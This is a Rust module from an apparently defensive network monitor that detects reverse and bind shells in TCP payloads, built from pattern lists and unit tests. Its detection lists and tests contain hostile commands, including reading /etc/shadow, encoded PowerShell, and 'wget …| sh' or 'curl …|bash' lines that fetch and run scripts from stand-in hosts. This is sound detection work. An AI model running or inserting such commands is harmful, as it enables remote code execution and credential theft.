//! Shell content: does a TCP flow's sampled payload look like a remote shell (a reverse or bind
//! shell, a C2 console)? A pure function over the two bounded samples and the payload-packet
//! timeline, run once when the flow is judged.
//!
//! Signs, each quoted as evidence (escaped, at most [`MAX_QUOTE`] characters, at most
//! [`MAX_SIGNS`] of them):
//! - **prompt** at the start of a line: `bash-5.2# `, `sh-5.1$ `, `user@host:~$ `,
//!   `[root@host tmp]# `, `C:\>`, `PS C:\Users> `; a bare `$ ` or `# ` only as a whole packet
//!   (or after the output that ends a packet), where a shell writes it.
//! - **command**, a whole line: `id`, `whoami`, `uname -a`, `cat /etc/passwd`, `hostname`,
//!   `ipconfig`, `systeminfo`, …; `wget …|sh`, `curl …|sh` (download and execute);
//!   `powershell -enc …`.
//! - **output**: `uid=0(root) gid=…`, `Linux … GNU/Linux`, `root:x:0:0:`,
//!   `Microsoft Windows [Version …]`.
//! - **keystrokes**: at least [`MIN_KEYSTROKES`] packets of 1–3 bytes each answered by the
//!   other side, which also sends larger ones (a terminal echoing what a person types).
//!
//! A root prompt (`#`, `root@`), `uid=0(` or a download-and-execute makes it privileged (the
//! finding is then critical).

use super::behaviour::Record;
use crate::event::anomaly::{ShellSign, ShellSignKind};

/// Longest quote of a sign, in characters after escaping.
pub const MAX_QUOTE: usize = 80;
/// Signs kept per flow.
pub const MAX_SIGNS: usize = 8;
/// Keystroke-sized packets answered by the other side that make a typing person.
pub const MIN_KEYSTROKES: usize = 8;

/// What the matcher found in a flow.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShellMatch {
    pub signs: Vec<ShellSign>,
    /// A root prompt or `uid=0(`.
    pub root: bool,
    /// A download piped into a shell (`wget …|sh`, `curl …|bash`).
    pub download_exec: bool,
}

/// Signs of a shell in `samples` (0 = towards the watched port, 1 = from it) and `records`
/// (the payload-packet timeline, `to_server` = side 0); `None` when there are none.
pub fn shell_signs(samples: [&[u8]; 2], records: &[Record]) -> Option<ShellMatch> {
    let mut m = ShellMatch::default();
    for (side, sample) in samples.iter().enumerate() {
        let to_server = side == 0;
        for line in sample.split(|&b| b == b'\n') {
            let line = trim_cr(line);
            if let Some(p) = line_prompt(line) {
                m.root |= is_root_prompt(p);
                push(&mut m, ShellSignKind::Prompt, to_server, p);
            }
            // A prompt may precede a command (echoed) or output (the next command's).
            let rest = strip_prompt(line);
            let rest = [&b"$ "[..], b"# "]
                .into_iter()
                .find_map(|p| rest.strip_prefix(p))
                .unwrap_or(rest);
            check_command(&mut m, to_server, rest);
            check_output(&mut m, to_server, rest);
        }
        for chunk in packets(sample, records, to_server) {
            if let Some(p) = bare_prompt(chunk) {
                m.root |= p == b"# ";
                push(&mut m, ShellSignKind::Prompt, to_server, p);
            }
        }
    }
    if let Some((n, to_server)) = keystrokes(records) {
        let quote = format!("{n} keystroke-sized packets (1-3 bytes), each answered");
        push(
            &mut m,
            ShellSignKind::Keystrokes,
            to_server,
            quote.as_bytes(),
        );
    }
    (!m.signs.is_empty()).then_some(m)
}

fn push(m: &mut ShellMatch, kind: ShellSignKind, to_server: bool, quote: &[u8]) {
    let quote = escape(quote);
    if m.signs.len() >= MAX_SIGNS
        || m.signs
            .iter()
            .any(|s| s.kind == kind && s.quote == quote && s.to_server == to_server)
    {
        return;
    }
    m.signs.push(ShellSign {
        kind,
        to_server,
        quote,
    });
}

fn trim_cr(line: &[u8]) -> &[u8] {
    line.strip_suffix(b"\r").unwrap_or(line)
}

/// The bytes as printable ASCII, others as `\n`, `\r`, `\t`, `\xNN` (a backslash doubled),
/// cut at [`MAX_QUOTE`] characters with `…`.
pub fn escape(bytes: &[u8]) -> String {
    let mut s = String::new();
    for &b in bytes {
        let piece = match b {
            b'\\' => "\\\\".to_string(),
            b'\n' => "\\n".to_string(),
            b'\r' => "\\r".to_string(),
            b'\t' => "\\t".to_string(),
            0x20..=0x7e => char::from(b).to_string(),
            _ => format!("\\x{b:02x}"),
        };
        if s.len() + piece.len() > MAX_QUOTE {
            s.push('…');
            break;
        }
        s.push_str(&piece);
    }
    s
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')
}

/// The prompt a line starts with, if any (shells named, `user@host:dir$ `, `[user@host dir]# `,
/// `C:\dir>`, `PS C:\dir> `).
fn line_prompt(line: &[u8]) -> Option<&[u8]> {
    let end = unix_prompt_end(line).or_else(|| windows_prompt_end(line))?;
    Some(&line[..end])
}

/// `… $ ` or `… # `: the index after the space.
fn unix_prompt_end(line: &[u8]) -> Option<usize> {
    // `bash-5.2# `, `sh-5.1$ `, `zsh$ `.
    for shell in [&b"bash"[..], b"sh", b"zsh", b"ash", b"dash", b"ksh"] {
        if let Some(rest) = line.strip_prefix(shell) {
            let version = if let Some(v) = rest.strip_prefix(b"-") {
                let n = v
                    .iter()
                    .take_while(|b| b.is_ascii_digit() || **b == b'.')
                    .count();
                if n == 0 || !v[0].is_ascii_digit() {
                    continue;
                }
                n + 1
            } else {
                0
            };
            let at = shell.len() + version;
            if matches!(line.get(at..at + 2), Some(b"$ " | b"# ")) {
                return Some(at + 2);
            }
        }
    }
    // `user@host:dir$ ` and `[user@host dir]# `.
    let (bracket, body) = match line.strip_prefix(b"[") {
        Some(b) => (true, b),
        None => (false, line),
    };
    let user = body.iter().take_while(|b| is_word(**b)).count();
    if user == 0 || body.get(user) != Some(&b'@') {
        return None;
    }
    let host = body[user + 1..].iter().take_while(|b| is_word(**b)).count();
    if host == 0 {
        return None;
    }
    let after = user + 1 + host;
    let sep = if bracket { b' ' } else { b':' };
    if body.get(after) != Some(&sep) {
        return None;
    }
    let dir_start = after + 1;
    let close: &[u8] = if bracket { b"]" } else { b"" };
    let dir = body[dir_start..].iter().take(64).position(|b| {
        b.is_ascii_whitespace() || (bracket && *b == b']') || (!bracket && matches!(b, b'$' | b'#'))
    })?;
    let at = dir_start + dir;
    let tail = body.get(at..)?;
    let tail = tail.strip_prefix(close)?;
    if matches!(tail.get(..2), Some(b"$ " | b"# ")) {
        Some(usize::from(bracket) + at + close.len() + 2)
    } else {
        None
    }
}

/// `C:\dir>` or `PS C:\dir> `: the index after the `>` (and its space).
fn windows_prompt_end(line: &[u8]) -> Option<usize> {
    let (skip, rest) = match line.strip_prefix(b"PS ") {
        Some(r) => (3, r),
        None => (0, line),
    };
    if !(rest.len() >= 4 && rest[0].is_ascii_uppercase() && rest[1] == b':' && rest[2] == b'\\') {
        return None;
    }
    let gt = rest.iter().take(128).position(|&b| b == b'>' || b < 0x20)?;
    if rest[gt] != b'>' {
        return None;
    }
    let end = skip + gt + 1;
    Some(if line.get(end) == Some(&b' ') {
        end + 1
    } else {
        end
    })
}

fn is_root_prompt(p: &[u8]) -> bool {
    p.ends_with(b"# ") || p.starts_with(b"root@") || p.starts_with(b"[root@")
}

/// The line without the prompt it starts with (a terminal echoes the command after it).
fn strip_prompt(line: &[u8]) -> &[u8] {
    match line_prompt(line) {
        Some(p) => &line[p.len()..],
        None => line,
    }
}

/// Commands a person at a shell types first, as whole lines.
const COMMANDS: &[&[u8]] = &[
    b"id",
    b"whoami",
    b"hostname",
    b"pwd",
    b"ifconfig",
    b"ip a",
    b"ip addr",
    b"ps aux",
    b"ls -la",
    b"ls -al",
    b"netstat -an",
    b"ipconfig",
    b"ipconfig /all",
    b"systeminfo",
    b"net user",
    b"whoami /all",
    b"cat /etc/passwd",
    b"cat /etc/shadow",
];

/// A download and what runs it: `wget …|sh`, `curl …; sh x`.
const FETCHERS: &[&[u8]] = &[b"wget ", b"curl "];
const TO_SHELL: &[&[u8]] = &[
    b"|sh", b"| sh", b"|bash", b"| bash", b"; sh ", b";sh ", b"&& sh ",
];
/// PowerShell running a base64 command.
const ENCODED: &[&[u8]] = &[b" -enc", b" -e ", b" -encodedcommand"];

fn check_command(m: &mut ShellMatch, to_server: bool, line: &[u8]) {
    let line = line.trim_ascii();
    if line.is_empty() || line.len() > 512 {
        return;
    }
    let lower = line.to_ascii_lowercase();
    let first_word = lower.split(|b| *b == b' ').next().unwrap_or(&[]);
    let known = COMMANDS.contains(&&lower[..])
        || first_word == b"uname" && lower.len() <= 16
        || lower.starts_with(b"cat /etc/passwd")
        || lower.starts_with(b"cat /etc/shadow");
    let fetch = FETCHERS
        .iter()
        .any(|w| lower.starts_with(w) || contains(&lower, &[&b";"[..], w].concat()));
    let piped_to_shell = TO_SHELL
        .iter()
        .any(|p| contains(&lower, p) || lower.ends_with(p.trim_ascii_end()));
    let encoded_powershell =
        first_word.starts_with(b"powershell") && ENCODED.iter().any(|p| contains(&lower, p));
    if fetch && piped_to_shell {
        m.download_exec = true;
        push(m, ShellSignKind::Command, to_server, line);
    } else if known || encoded_powershell {
        push(m, ShellSignKind::Command, to_server, line);
    }
}

fn check_output(m: &mut ShellMatch, to_server: bool, line: &[u8]) {
    // `uid=0(root) gid=0(root) …`
    if let Some(i) = find(line, b"uid=") {
        let digits = line[i + 4..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count();
        let rest = &line[i + 4 + digits..];
        if digits > 0 && rest.first() == Some(&b'(') && contains(rest, b" gid=") {
            m.root |= line[i + 4..].starts_with(b"0(");
            push(m, ShellSignKind::Output, to_server, &line[i..]);
            return;
        }
    }
    let sign = (line.starts_with(b"Linux ") && line.ends_with(b"GNU/Linux"))
        || line.starts_with(b"root:x:0:0:")
        || contains(line, b"Microsoft Windows [Version");
    if sign {
        push(m, ShellSignKind::Output, to_server, line);
    }
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    find(hay, needle).is_some()
}

/// A whole packet that is `$ ` or `# `, or ends a packet's output with one.
fn bare_prompt(chunk: &[u8]) -> Option<&'static [u8]> {
    const PROMPTS: [&[u8]; 2] = [b"$ ", b"# "];
    PROMPTS
        .into_iter()
        .find(|p| chunk == *p || chunk.ends_with(&[&b"\n"[..], p].concat()))
}

/// The sample cut into the packets that carried it (by the timeline's sizes, in order; a
/// retransmission may misalign the cut, which only hides a bare prompt).
fn packets<'a>(
    sample: &'a [u8],
    records: &'a [Record],
    to_server: bool,
) -> impl Iterator<Item = &'a [u8]> + 'a {
    let mut at = 0usize;
    records
        .iter()
        .filter(move |r| r.to_server == to_server)
        .map_while(move |r| {
            let end = at.checked_add(r.len as usize)?.min(sample.len());
            let chunk = sample.get(at..end)?;
            at = end;
            (!chunk.is_empty()).then_some(chunk)
        })
}

/// Keystroke-sized packets of one side, each followed by a packet of the other side which also
/// sends larger ones: `(count, the typing side is towards the service)`.
fn keystrokes(records: &[Record]) -> Option<(usize, bool)> {
    [true, false].into_iter().find_map(|typing| {
        let n = records
            .windows(2)
            .filter(|w| w[0].to_server == typing && (1..=3).contains(&w[0].len))
            .filter(|w| w[1].to_server != typing)
            .count();
        let answers_larger = records.iter().any(|r| r.to_server != typing && r.len > 3);
        (n >= MIN_KEYSTROKES && answers_larger).then_some((n, typing))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(to_server: bool, len: usize) -> Record {
        Record {
            ts_us: 0,
            to_server,
            len: len as u32,
        }
    }

    /// Records for packets `up` (towards the service) and `down`, alternating.
    fn turns(up: &[&[u8]], down: &[&[u8]]) -> (Vec<u8>, Vec<u8>, Vec<Record>) {
        let mut r = Vec::new();
        for i in 0..up.len().max(down.len()) {
            if let Some(u) = up.get(i) {
                r.push(rec(true, u.len()));
            }
            if let Some(d) = down.get(i) {
                r.push(rec(false, d.len()));
            }
        }
        (up.concat(), down.concat(), r)
    }

    fn quotes(m: &ShellMatch) -> Vec<(ShellSignKind, bool, &str)> {
        m.signs
            .iter()
            .map(|s| (s.kind, s.to_server, s.quote.as_str()))
            .collect()
    }

    #[test]
    fn bind_shell_as_root() {
        // The attacker connects to the shell on the watched port: commands go to it.
        let (up, down, r) = turns(
            &[b"id\n", b"uname -a\n"],
            &[
                b"bash-5.2# ",
                b"uid=0(root) gid=0(root) groups=0(root)\nbash-5.2# ",
                b"Linux cam 6.1.0 #1 SMP armv7l GNU/Linux\n",
            ],
        );
        let m = shell_signs([&up, &down], &r).unwrap();
        assert!(m.root && !m.download_exec);
        use ShellSignKind::*;
        assert_eq!(
            quotes(&m),
            [
                (Command, true, "id"),
                (Command, true, "uname -a"),
                (Prompt, false, "bash-5.2# "),
                (Output, false, "uid=0(root) gid=0(root) groups=0(root)"),
                (Output, false, "Linux cam 6.1.0 #1 SMP armv7l GNU/Linux"),
            ]
        );
    }

    #[test]
    fn reverse_shell_with_download_and_execute() {
        // The victim connects out to the listener on the watched port: commands come from it.
        let (up, down, r) = turns(
            &[b"$ ", b"uid=1000(pi) gid=1000(pi)\n$ "],
            &[b"id\n", b"wget -qO- http://203.0.113.5/x.sh | sh\n"],
        );
        let m = shell_signs([&up, &down], &r).unwrap();
        assert!(m.download_exec && !m.root);
        use ShellSignKind::*;
        assert_eq!(
            quotes(&m),
            [
                (Output, true, "uid=1000(pi) gid=1000(pi)"),
                (Prompt, true, "$ "),
                (Command, false, "id"),
                (Command, false, "wget -qO- http://203.0.113.5/x.sh | sh"),
            ]
        );
        let (_, down, r) = turns(&[], &[b"curl -s http://x/y|bash\r\n"]);
        assert!(shell_signs([b"", &down], &r).unwrap().download_exec);
    }

    #[test]
    fn windows_prompts_and_banner() {
        let banner: &[u8] = b"Microsoft Windows [Version 10.0.19045.4046]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\svc>";
        let (up, down, r) = turns(
            &[b"whoami\r\n", b"powershell -enc SQBFAFgA\r\n"],
            &[banner, b"\r\nPS C:\\Users\\svc> "],
        );
        let m = shell_signs([&up, &down], &r).unwrap();
        use ShellSignKind::*;
        assert_eq!(
            quotes(&m),
            [
                (Command, true, "whoami"),
                (Command, true, "powershell -enc SQBFAFgA"),
                (Output, false, "Microsoft Windows [Version 10.0.19045.4046]"),
                (Prompt, false, "C:\\\\Users\\\\svc>"),
                (Prompt, false, "PS C:\\\\Users\\\\svc> "),
            ]
        );
    }

    #[test]
    fn prompts_of_user_at_host() {
        assert_eq!(line_prompt(b"root@cam:~# ls"), Some(&b"root@cam:~# "[..]));
        assert_eq!(line_prompt(b"pi@raspberrypi:/tmp $ "), None);
        assert_eq!(
            line_prompt(b"pi@raspberrypi:/tmp$ "),
            Some(&b"pi@raspberrypi:/tmp$ "[..])
        );
        assert_eq!(
            line_prompt(b"[root@host tmp]# "),
            Some(&b"[root@host tmp]# "[..])
        );
        assert_eq!(line_prompt(b"sh-5.1$ "), Some(&b"sh-5.1$ "[..]));
        assert_eq!(line_prompt(b"sh-$ "), None);
        assert_eq!(line_prompt(b"user@example.com wrote:"), None);
        assert!(is_root_prompt(b"[root@host tmp]# "));
    }

    #[test]
    fn keystrokes_answered_by_echo_and_output() {
        let mut r = Vec::new();
        for _ in 0..8 {
            r.push(rec(true, 1));
            r.push(rec(false, 1));
        }
        r.push(rec(false, 120));
        let m = shell_signs([b"", b""], &r).unwrap();
        assert_eq!(
            quotes(&m),
            [(
                ShellSignKind::Keystrokes,
                true,
                "8 keystroke-sized packets (1-3 bytes), each answered"
            )]
        );
        // Seven are not enough; small answers only are no terminal.
        assert_eq!(keystrokes(&r[2..]), None);
        let small: Vec<Record> = r.iter().map(|x| Record { len: 1, ..*x }).collect();
        assert_eq!(keystrokes(&small), None);
    }

    #[test]
    fn text_protocols_are_no_shell() {
        let feed = b"temp=21.5 hum=40\ntemp=21.6 hum=40\n# comment line\nid=7 status=ok\n";
        let (up, down, r) = turns(
            &[feed, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"],
            &[b"OK\n", b"$ 12.50 total\n"],
        );
        assert_eq!(shell_signs([&up, &down], &r), None);
        assert_eq!(shell_signs([b"", b""], &[]), None);
    }

    #[test]
    fn quotes_are_escaped_and_bounded() {
        assert_eq!(escape(b"a\\b\x01\t"), "a\\\\b\\x01\\t");
        let q = escape(&[b'x'; 200]);
        assert_eq!(q.chars().count(), MAX_QUOTE + 1);
        assert!(q.ends_with('…'));
        // Signs per flow are bounded.
        let many: Vec<&[u8]> = vec![
            b"id\nwhoami\npwd\nhostname\nifconfig\nip a\nps aux\nls -la\nsysteminfo\nnet user\n",
        ];
        let (up, _, r) = turns(&many, &[]);
        assert_eq!(shell_signs([&up, b""], &r).unwrap().signs.len(), MAX_SIGNS);
    }

    #[test]
    fn hostile_bytes_do_not_panic() {
        let junk: Vec<u8> = (0..=255u8).cycle().take(2048).collect();
        let r = vec![rec(true, usize::MAX >> 40), rec(false, 0)];
        let _ = shell_signs([&junk, &junk], &r);
        let _ = shell_signs([b"[a@b ", b"PS C:\\"], &r);
        let _ = shell_signs([b"bash-", b"uid=1"], &[]);
    }
}
